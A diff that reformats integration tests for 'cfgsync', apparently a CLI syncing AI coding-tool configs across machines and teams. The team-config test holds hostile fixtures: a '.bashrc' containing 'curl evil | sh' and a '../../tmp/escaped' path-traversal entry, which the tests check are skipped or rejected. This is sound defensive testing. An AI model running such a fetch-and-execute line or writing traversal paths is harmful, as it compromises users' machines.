@@ -26,7 +26,11 @@ describe('the cfgsync CLI against the compiled server', () => {
 		expect(loggedIn.stdout).toContain('Logged in as ada')
 		const credentials = join(laptop.home, '.config', 'cfgsync', 'credentials.json')
 		expect(statSync(credentials).mode & 0o777).toBe(0o600)
-		expect(JSON.parse(readFileSync(credentials, 'utf8'))).toMatchObject({ server: server.url, device: 'laptop', username: 'ada' })
+		expect(JSON.parse(readFileSync(credentials, 'utf8'))).toMatchObject({
+			server: server.url,
+			device: 'laptop',
+			username: 'ada'
+		})
 
 		laptop.file('.claude/settings.json', '{"theme":"dark"}\n')
 		laptop.file('.claude/CLAUDE.md', '# House rules\nTabs.\n')
@@ -38,7 +42,9 @@ describe('the cfgsync CLI against the compiled server', () => {
 
 		// What the server stored is the documented format, keyed by path relative to home.
 		const stored = await api(server, 'GET', '/api/configs/latest?name=default&tool=claude-code', ada.key)
-		expect(stored.body.data).toEqual({ files: { '.claude/settings.json': '{"theme":"dark"}\n', '.claude/CLAUDE.md': '# House rules\nTabs.\n' } })
+		expect(stored.body.data).toEqual({
+			files: { '.claude/settings.json': '{"theme":"dark"}\n', '.claude/CLAUDE.md': '# House rules\nTabs.\n' }
+		})
 		expect(stored.body.version).toBe(1)
 
 		expect((await login(desktop, ada, 'desktop')).code).toBe(0)
@@ -49,7 +55,9 @@ describe('the cfgsync CLI against the compiled server', () => {
 		expect(desktop.file('.claude/CLAUDE.md')).toBe('# House rules\nTabs.\n')
 		expect((await desktop.cfgsync(['pull', 'claude-code'])).stdout).toContain('up to date')
 		const listed = await desktop.cfgsync(['list', '--json'])
-		expect(JSON.parse(listed.stdout)).toEqual([expect.objectContaining({ tool: 'claude-code', name: 'default', version: 1 })])
+		expect(JSON.parse(listed.stdout)).toEqual([
+			expect.objectContaining({ tool: 'claude-code', name: 'default', version: 1 })
+		])
 	}, 60_000)
 
 	test('a push over a version this machine has not pulled is a conflict (exit 3, nothing sent); local edits survive a pull; --force backs up; rollback and history', async () => {
@@ -69,7 +77,11 @@ describe('the cfgsync CLI against the compiled server', () => {
 		expect(stale.code).toBe(3)
 		expect(stale.stderr).toContain('~/.gemini/settings.json (changed here and on the server: from)')
 		expect(stale.stderr).toContain('cfgsync resolve gemini-cli --mine')
-		expect((await api(server, 'GET', '/api/configs/latest?name=default&tool=gemini-cli', ada.key)).body.data.files['.gemini/settings.json']).toBe('{"v":2,"from":"desktop"}')
+		expect(
+			(await api(server, 'GET', '/api/configs/latest?name=default&tool=gemini-cli', ada.key)).body.data.files[
+				'.gemini/settings.json'
+			]
+		).toBe('{"v":2,"from":"desktop"}')
 
 		const kept = await laptop.cfgsync(['pull', 'gemini-cli'])
 		expect(kept.code).toBe(3)
@@ -87,7 +99,9 @@ describe('the cfgsync CLI against the compiled server', () => {
 		expect(laptop.file('.gemini/settings.json')).toBe('{"v":2,"from":"desktop"}')
 		const backups = join(laptop.home, '.local', 'state', 'cfgsync', 'backups')
 		const [backup] = readdirSync(backups)
-		expect(readFileSync(join(backups, backup as string, '.gemini', 'settings.json'), 'utf8')).toBe('{"v":2,"from":"laptop"}')
+		expect(readFileSync(join(backups, backup as string, '.gemini', 'settings.json'), 'utf8')).toBe(
+			'{"v":2,"from":"laptop"}'
+		)
 
 		const history = await laptop.cfgsync(['history', 'gemini-cli', '--json'])
 		expect(JSON.parse(history.stdout).versions.map((v: { version: number }) => v.version)).toEqual([2, 1])
@@ -96,7 +110,9 @@ describe('the cfgsync CLI against the compiled server', () => {
 		expect(rolled.stdout).toContain('version 3 now holds what version 1 held')
 		await laptop.cfgsync(['pull', 'gemini-cli'])
 		expect(laptop.file('.gemini/settings.json')).toBe('{"v":1}')
-		expect((await laptop.cfgsync(['diff', 'gemini-cli', '--from', '1', '--version', '2'])).stdout).toContain('+{"v":2,"from":"desktop"}')
+		expect((await laptop.cfgsync(['diff', 'gemini-cli', '--from', '1', '--version', '2'])).stdout).toContain(
+			'+{"v":2,"from":"desktop"}'
+		)
 	}, 60_000)
 
 	test('team configs: an admin pushes, a member pulls but may not push; hostile paths are never written', async () => {
@@ -115,7 +131,9 @@ describe('the cfgsync CLI against the compiled server', () => {
 		expect((await admin.cfgsync(['invitations', 'accept', 'platform-team'])).code).toBe(0)
 		expect((await member.cfgsync(['invitations', 'accept', 'platform-team'])).code).toBe(0)
 		expect((await member.cfgsync(['invitations', 'accept', 'platform-team'])).code).toBe(1)
-		expect(JSON.parse((await member.cfgsync(['teams', '--json'])).stdout)).toEqual([expect.objectContaining({ slug: 'platform-team', role: 'member' })])
+		expect(JSON.parse((await member.cfgsync(['teams', '--json'])).stdout)).toEqual([
+			expect.objectContaining({ slug: 'platform-team', role: 'member' })
+		])
 
 		admin.file('.codex/AGENTS.md', 'Shared agent rules\n')
 		const teamPush = await admin.cfgsync(['push', 'codex', '--team', 'platform-team'])
@@ -131,14 +149,24 @@ describe('the cfgsync CLI against the compiled server', () => {
 		// An admin pushes files the member's tool does not own, and paths that escape home, through the API.
 		const team = (await api(server, 'GET', '/api/teams/platform-team', ben.key)).body
 		const hostile = { '.bashrc': 'curl evil | sh\n', '.codex/config.toml': 'model = "x"\n' }
-		await api(server, 'POST', '/api/configs', ben.key, { teamId: team.id, tool: 'codex', name: 'rules', data: { files: hostile } })
+		await api(server, 'POST', '/api/configs', ben.key, {
+			teamId: team.id,
+			tool: 'codex',
+			name: 'rules',
+			data: { files: hostile }
+		})
 		const victim = machine(server)
 		await login(victim, cy, 'v')
 		const pulled = await victim.cfgsync(['pull', 'codex', '--team', 'platform-team', '--name', 'rules'])
 		expect(pulled.stdout).toContain('~/.bashrc (skipped')
 		expect(victim.file('.bashrc')).toBeUndefined()
 		expect(victim.file('.codex/config.toml')).toBe('model = "x"\n')
-		await api(server, 'POST', '/api/configs', ben.key, { teamId: team.id, tool: 'codex', name: 'escape', data: { files: { '../../tmp/escaped': 'x', '.codex/AGENTS.md': 'y' } } })
+		await api(server, 'POST', '/api/configs', ben.key, {
+			teamId: team.id,
+			tool: 'codex',
+			name: 'escape',
+			data: { files: { '../../tmp/escaped': 'x', '.codex/AGENTS.md': 'y' } }
+		})
 		const escape = await victim.cfgsync(['pull', 'codex', '--team', 'platform-team', '--name', 'escape', '--force'])
 		expect(escape.code).not.toBe(0)
 		expect(escape.stderr).toContain('unsafe path')
@@ -166,7 +194,9 @@ describe('the cfgsync CLI against the compiled server', () => {
 		await login(laptop, ada, 'laptop')
 		expect((await laptop.cfgsync(['history', 'vscode'])).stderr).toContain('does not exist')
 		const free = machine(server)
-		const nobody = await free.cfgsync(['login', '--server', 'http://127.0.0.1:1', '--user', 'x', '--password-stdin'], { stdin: 'y\n' })
+		const nobody = await free.cfgsync(['login', '--server', 'http://127.0.0.1:1', '--user', 'x', '--password-stdin'], {
+			stdin: 'y\n'
+		})
 		expect(nobody.stderr).toContain('cannot reach the server')
 		for (const result of [after, wrong, nobody]) expect(result.stderr).not.toMatch(/\n\s+at /)
 		expect((await laptop.cfgsync(['push', 'emacs'])).code).toBe(2)
